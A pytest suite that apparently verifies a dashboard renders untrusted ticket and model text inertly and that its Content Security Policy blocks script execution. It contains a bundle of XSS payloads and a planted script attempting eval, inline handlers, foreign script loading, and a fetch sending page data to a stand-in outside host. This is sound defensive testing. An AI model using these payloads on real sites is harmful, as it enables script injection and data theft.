"""What strangers write, into tickets and into answers of models, stays text; and what would run without the policy does not run with it."""

import http.server
import threading
import urllib.parse

import pytest

from page_stage import READ, Stage, between, browser, complaints, show, until  # noqa: F401

INJECTIONS = ("<script>window.ran = 1</script><img src=x onerror='window.ran = 2'><svg onload='window.ran = 3'><a href='javascript:window.ran = 4'>x</a>"
              "<iframe srcdoc='<script>parent.ran = 5</script>'></iframe><style>*{display:none}</style>\"><body onload='window.ran = 7'>")
LAX = "default-src * 'unsafe-inline' 'unsafe-eval' data: blob:"


class Elsewhere:
    """Another server on this machine: it counts who comes."""

    def __init__(self):
        asked = self.asked = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def do_GET(self):
                asked.append(self.path)
                body = b"window.hits.push('foreign script');"
                self.send_response(200)
                self.send_header("Content-Type", "text/javascript")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.base = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def elsewhere():
    one = Elsewhere()
    yield one
    one.server.shutdown()
    one.server.server_close()


def test_what_tickets_and_models_say_stays_text(world, browser):
    stage = Stage(world, history={"tickets": 700, "first_id": 12000, "planted": INJECTIONS}).start()
    show(browser, stage.base, READ, fragment="#span=30d", ready="return document.querySelector('#decisions tbody tr')")
    planted = next(row["ticket_id"] for row in stage.get("/api/v1/decisions?limit=200&outcome=done")["decisions"]
                   if INJECTIONS in str(stage.get(f"/api/v1/decisions/{row['ticket_id']}")["events"][0]["payload"].get("summary", "")))
    browser.type("#why-ticket", str(planted))
    browser.click("#why-form button")
    browser.until("return document.querySelector('#explain .trail li')")
    assert INJECTIONS in browser.run("return document.querySelector('#explain').textContent")
    assert browser.run("return [window.ran === undefined, document.querySelectorAll('iframe, main img, main script, main svg').length]") == [True, 0]
    assert complaints(browser) == []


def test_what_answers_hold_stays_text(world, browser, between):
    """Every text of every answer is replaced: model names, errors, reasons, titles of alerts, names of tokens."""
    import json
    stage = Stage(world, history={"tickets": 700}).start()
    front = between(stage)

    def poison(value, key=""):
        if isinstance(value, dict):
            return {name: poison(one, name) for name, one in value.items()}
        if isinstance(value, list):
            return [poison(one, key) for one in value]
        return INJECTIONS if isinstance(value, str) and key not in ("may", "next", "field") else value

    def rule(handler, method, path):
        if not path.startswith("/api/v1/") or path.startswith("/api/v1/events"):
            return False
        connection, reply = front.ask(handler)
        body = poison(json.loads(reply.read()))
        connection.close()
        if path.startswith("/api/v1/alerts"):
            body["active"] = [{"kind": INJECTIONS, "severity": INJECTIONS, "title": INJECTIONS, "text": INJECTIONS, "since": 1, "ended": None,
                               "value": 1, "threshold": 2, "unit": INJECTIONS}]
        front.answer(handler, reply.status, json.dumps(body).encode())
        return True

    front.rules.append(rule)
    show(browser, front.base, READ, fragment="#explain=2600", ready="return document.querySelector('#decisions tbody tr') && document.querySelector('#alerts-now li')")
    browser.until("return document.querySelector('#explain').textContent.length > 100")
    assert INJECTIONS in browser.run("return document.body.textContent")
    assert browser.run("return [window.ran === undefined, document.querySelectorAll('iframe, main img, main script, main svg, a[href^=javascript]').length]") == [True, 0]
    assert browser.run("return document.querySelectorAll('#decisions tbody a').length") == 0, "a strange address of tickets is no link"
    assert complaints(browser) == []


PLANTED_PAGE = b"""<!doctype html><html lang="en"><head><meta charset="utf-8"><title>planted</title></head>
<body><p id="here"></p><script>(window.hits = window.hits || []).push('inline script');</script><script src="/planted.js"></script></body></html>"""
# Each try has its own catch: the first refusal would end the others.
PLANTED_SCRIPT = """window.hits = window.hits || [];
const attempt = (name, what) => { try { what(); } catch (error) { (window.refused = window.refused || []).push(name); } };
const here = document.querySelector('#here');
attempt('innerHTML', () => { here.innerHTML = '<img src="data:x" onerror="hits.push(\\'markup\\')">'; });
attempt('handler', () => { const p = document.createElement('p'); p.setAttribute('onclick', "hits.push('handler')"); document.body.append(p); p.click(); });
attempt('eval', () => { eval("hits.push('eval')"); });
attempt('timer', () => { setTimeout("hits.push('timer')", 0); });
attempt('script', () => { const s = document.createElement('script'); s.src = 'ELSEWHERE/script.js'; document.body.append(s); });
attempt('fetch', () => { fetch('ELSEWHERE/taken?what=' + encodeURIComponent(document.title)).then(() => hits.push('fetch'), () => {}); });
attempt('end', () => { setTimeout(() => { window.over = true; }, 1500); });
"""


@pytest.mark.parametrize("lax", (False, True), ids=("the policy of the service", "a lax policy"))
def test_seven_injections_run_only_under_a_lax_policy(world, browser, between, elsewhere, lax):
    stage = Stage(world).start()
    front = between(stage)
    front.policy = LAX if lax else None
    front.pages = {"/planted.html": ("text/html; charset=utf-8", PLANTED_PAGE),
                   "/planted.js": ("text/javascript; charset=utf-8", PLANTED_SCRIPT.replace("ELSEWHERE", elsewhere.base).encode())}
    browser.open(front.base + "/planted.html")
    browser.until("return window.over === true")
    hits = sorted(browser.run("return window.hits"))
    everything = ["eval", "fetch", "foreign script", "handler", "inline script", "markup", "timer"]
    assert hits == (everything if lax else [])
    assert sorted(urllib.parse.urlsplit(path).path for path in elsewhere.asked) == (["/script.js", "/taken"] if lax else [])
    if not lax:
        assert len([entry for entry in browser.console() if "Content Security Policy" in entry["message"] or "TrustedHTML" in entry["message"]]) >= 4
